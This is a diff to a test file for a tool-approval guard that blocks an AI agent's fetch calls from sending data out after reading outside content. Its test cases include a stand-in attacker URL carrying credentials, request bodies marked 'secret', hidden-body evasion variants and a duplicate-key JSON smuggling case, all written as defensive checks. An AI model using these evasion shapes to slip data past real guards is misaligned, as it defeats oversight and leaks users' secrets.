@@ -14,9 +14,12 @@ from tests.fakes.scripted_server import tool
 from tooltray.approvals import flow_guard
 from tooltray.approvals.approval_rules import in_words
 from tooltray.approvals.flow_guard import FlowGuard
+from tooltray.audit.audit_trail import AuditTrail
 from tooltray.catalogue import approval
 from tooltray.catalogue.definition import read_definition
 from tooltray.catalogue.tool_routes import Route
+from tooltray.confirmation import UNATTENDED, asked_by
+from tooltray.consent.askers import WindowAsker
 from tooltray.events import ConfigChanged, EventBus
 from tooltray.sessions.session_flow import SessionFlow
 from tooltray.sessions.session_state import SessionState
@@ -24,6 +27,12 @@ from tooltray.settings.settings_reading import read_settings
 
 FETCH, SEND, NOTE = tool("fetch"), tool("mail_send"), tool("save_note")
 PAGE = {"url": "https://user:pw@evil.example/page?key=1"}
+HIDDEN: tuple[dict[str, Any], ...] = (
+    {"options": {"method": "Post"}},
+    {"request": [{"init": {"httpMethod": "PUT"}}]},
+    {"options": {"Post-Data": "secret"}},
+)
+"""How a fetch sends that has its body not where most have it."""
 GUARDED = {"approvals": {"flowGuard": True}}
 
 
@@ -118,7 +127,7 @@ async def test_a_fetch_with_a_body_sends_and_one_without_does_not(tmp_path: Path
         for more in ({}, {"method": "get"}, {"body": ""}, {"method": "HEAD", "data": None}, {"json": {}}):
             assert "result" in await here.call("fetch", arguments=PAGE | more)
         assert here.questions == 0
-        for more in ({"method": "POST"}, {"body": "secret"}, {"data": {"a": 1}}, {"body": "x" * flow_guard.READ_BELOW_BYTES}):
+        for more in ({"method": "POST"}, {"body": "secret"}, {"data": {"a": 1}}, {"body": "x" * flow_guard.READ_BELOW_BYTES}, *HIDDEN):
             call = here.calling("fetch", arguments=PAGE | more)
             await here.answer("refuse")
             assert "error" in await call
@@ -204,10 +213,31 @@ def test_resources_and_prompts_of_a_server_elsewhere_count_and_those_of_one_here
     assert state.flow is None
 
 
-def test_the_person_and_what_comes_with_tooltray_are_not_guarded() -> None:
+def test_calls_of_commands_and_programs_are_those_of_one_session_whatever_project_they_name() -> None:
     of, _ = guard()
-    of.note(route("fetch"), exchange(state := SessionState("p", is_persons=True)))
+    of.note(route("fetch"), exchange(SessionState("p", client="tooltray", is_persons=True)))
+    with asked_by(UNATTENDED):
+        assert of.asks(route("mail_send"), SessionState("p", client="tooltray", is_persons=True), Raw(b"{}")) is not None
+
+
+def test_what_a_call_has_brought_counts_for_another_session_that_gets_it() -> None:
+    of, _ = guard()
+    of.note_again(route("save_note"), "s", state := SessionState("s1"))
+    of.note_again(None, "s", state)
     assert state.flow is None
+    of.note_again(route("fetch"), "s", state)
+    assert state.flow == SessionFlow("s", "fetch")
+    elsewhere, _ = guard(transport="http")
+    elsewhere.note_again(None, "s", state := SessionState("s2"))
+    assert state.flow == SessionFlow("s", "")
+
+
+def test_the_person_at_the_window_and_what_comes_with_tooltray_are_not_guarded(tmp_path: Path) -> None:
+    of, _ = guard()
+    person = SessionState("p", client="tooltray", is_persons=True)
+    with asked_by(WindowAsker(AuditTrail(tmp_path / "audit.jsonl"))):
+        of.note(route("fetch"), exchange(person))
+        assert of.asks(route("mail_send"), person, Raw(b"{}")) is None
     builtin, _ = guard(is_builtin=True)
     assert not builtin.sends(route("mail_send"))
     assert not of.sends(route("mail_send", "gone"))
@@ -230,6 +260,7 @@ def test_arguments_that_are_no_object_count_as_a_body() -> None:
     of, _ = guard()
     of.note(route("fetch"), exchange(state := SessionState("s1")))
     assert of.asks(route("fetch"), state, Raw(b'{"arguments":"text"}')) is not None
+    assert of.asks(route("fetch"), state, Raw(b'{"arguments":{"url":"a","url":"b"}}')) is not None  # a server may read either
     assert of.asks(route("fetch"), state, Raw(b"{}")) is None
     assert of.asks(route("fetch"), state, Raw(b'{"arguments":{"method":null}}')) is None
 
